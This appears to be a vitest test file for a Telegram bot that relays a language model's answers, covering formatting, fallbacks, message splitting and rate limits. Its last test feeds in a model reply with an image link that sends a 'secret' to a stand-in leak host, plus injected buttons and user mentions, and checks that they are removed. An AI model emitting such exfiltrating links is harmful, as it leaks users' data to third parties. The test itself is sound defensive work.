// The form an answer takes: prose as an ordinary message, more than that as a rich one, and what happens when it is long
// or refused. Nothing is lost to formatting.

import { describe, expect, it } from "vitest";
import { saidTo } from "../support/deployment.ts";
import { type Conversation, errorsIn, reply, said, startConversation } from "./conversation.ts";

const TABLE = "# Tides\n\n| Port | High |\n| --- | --- |\n| Kiel | noon |\n\nThat is **all**.";

/** The Markdown of the rich messages, as it was sent. */
const richTexts = ({ telegram }: Conversation): readonly string[] =>
  telegram
    .calls("sendRichMessage")
    .map(({ payload }) => String((payload["rich_message"] as { readonly markdown: unknown }).markdown));

describe("an answer", () => {
  it.concurrent("in prose is an ordinary message with entities", async () => {
    await using chat = await startConversation();
    chat.model.enqueue(reply("High tide is at **noon** in `Kiel`, see [here](https://example.org/)."));

    await chat.ask("When is high tide?");

    expect(chat.telegram.calls("sendRichMessage")).toEqual([]);
    expect(chat.telegram.messages(42)).toMatchObject([
      {
        text: "High tide is at noon in Kiel, see here.",
        entities: [
          { type: "bold", offset: 16, length: 4 },
          { type: "code", offset: 24, length: 4 },
          { type: "text_link", offset: 34, length: 4, url: "https://example.org/" },
        ],
      },
    ]);
  });

  it.concurrent("with a heading and a table is a rich message, and an ordinary one where the server knows no other", async () => {
    await using chat = await startConversation();
    chat.model.enqueue(reply(TABLE), reply("Tides"));
    await chat.ask("When is high tide?");
    expect(chat.telegram.calls("sendMessage")).toEqual([]);
    expect(richTexts(chat)).toEqual([expect.stringContaining("| Kiel |")]);

    chat.telegram.unsupported(["sendRichMessage"]);
    chat.model.enqueue(reply(TABLE));
    await chat.ask("Once more");

    const plain = chat.telegram.messages(42).at(-1);
    expect(plain?.text).toMatch(/Tides[\s\S]*Kiel[\s\S]*noon[\s\S]*That is all\./);
    expect(errorsIn(chat)).toEqual([]);
  });

  it.concurrent("that is refused in every form but the last arrives in the last", async () => {
    await using chat = await startConversation();
    const refused = { status: 400, description: "Bad Request: can't parse entities: something new" };
    chat.telegram.fail("sendMessage", refused);
    chat.model.enqueue(reply("High tide is at **noon**."));

    expect(await chat.ask("When is high tide?")).toBe("High tide is at noon.");
    expect(chat.telegram.messages(42)[0]).not.toHaveProperty("entities");
  });

  it.concurrent("beyond 32,768 characters arrives in several messages, whole and in order", async () => {
    await using chat = await startConversation();
    const paragraphs = Array.from({ length: 90 }, (_, index) =>
      `Paragraph ${index}. ${"The sea is wide. ".repeat(29)}`.trim(),
    );
    chat.model.enqueue(reply(paragraphs.join("\n\n")));

    await chat.send(said("Tell me everything"));

    const parts = richTexts(chat);
    expect(parts.length).toBeGreaterThan(1);
    expect(parts.every((part) => part.length <= 32_768)).toBe(true);
    expect(parts.join("\n\n")).toBe(paragraphs.join("\n\n"));
    expect(chat.telegram.messages(42)).toHaveLength(parts.length);
    expect(await chat.ask("What did I say?")).toContain("Tell me everything");
    expect(errorsIn(chat)).toEqual([]);
  });

  it.concurrent("waits as long as Telegram asks and is sent once", async () => {
    await using chat = await startConversation();
    chat.telegram.fail("sendMessage", {
      status: 429,
      description: "Too Many Requests: retry after 1",
      retry_after: 1,
    });
    chat.model.enqueue(reply("Here."));

    expect(await chat.ask("Are you there?")).toBe("Here.");

    const [first, second] = chat.telegram.calls("sendMessage");
    expect((second?.at ?? 0) - (first?.at ?? 0)).toBeGreaterThan(950);
    expect(saidTo(chat.telegram)).toHaveLength(1);
  });

  it.concurrent("cannot make Telegram fetch a picture, mention people or draw buttons of its own", async () => {
    await using chat = await startConversation();
    chat.model.enqueue(
      reply(
        '# Look\n\n![pixel](https://leak.example/?q=secret) <tg-button type="callback_data" data="c:1:0:x">Yes</tg-button> [Ada](tg://user?id=42)',
      ),
    );

    await chat.ask("Show me");

    const [markdown] = richTexts(chat);
    expect(markdown).not.toMatch(/!\[/);
    expect(markdown).not.toMatch(/(?<!\\)<tg-button/);
    expect(markdown).not.toContain("tg://user");
  });
});
